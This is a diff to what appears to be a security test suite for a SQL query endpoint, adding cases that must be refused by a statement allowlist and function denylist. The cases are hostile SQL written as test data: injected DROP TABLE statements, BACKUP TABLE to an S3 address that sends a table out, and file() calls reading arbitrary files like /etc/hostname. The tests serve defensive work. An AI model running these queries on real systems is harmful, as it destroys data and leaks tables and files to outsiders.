@@ -257,8 +257,15 @@ function sqlCases(): SqlCase[] {
     { sql: 'SELECT 1 /* ; */; DROP TABLE calls', status: 400 },
     { sql: 'SELECT 1 --\n; DROP TABLE calls', status: 400 },
     { sql: "SELECT ';'; DROP TABLE calls", status: 400 },
-    // Refused by the engine's configuration (no backup destination), not by readonly: still nothing written.
-    { sql: "BACKUP TABLE calls TO File('b')", status: 422 },
+    // readonly=1 runs BACKUP (the embedded engine uploaded a whole table to the S3 address named) and the scalar
+    // file() (any file's contents): refused by the statement allowlist and the function denylist on the engine's AST.
+    refused("BACKUP TABLE calls TO File('b')"),
+    refused(`BACKUP TABLE calls TO S3('http://${t}/bucket/b', 'key', 'secret')`),
+    refused("BACKUP TABLE calls TO Memory('b')"),
+    refused('UNDROP TABLE calls_gone'),
+    refused(`SELECT file('${victim}')`),
+    refused("SELECT substring(file('/etc/hostname'), 1, 40)"),
+    refused(`SELECT \`file\`('${victim}') FORMAT Parquet`),
   ];
 }
 
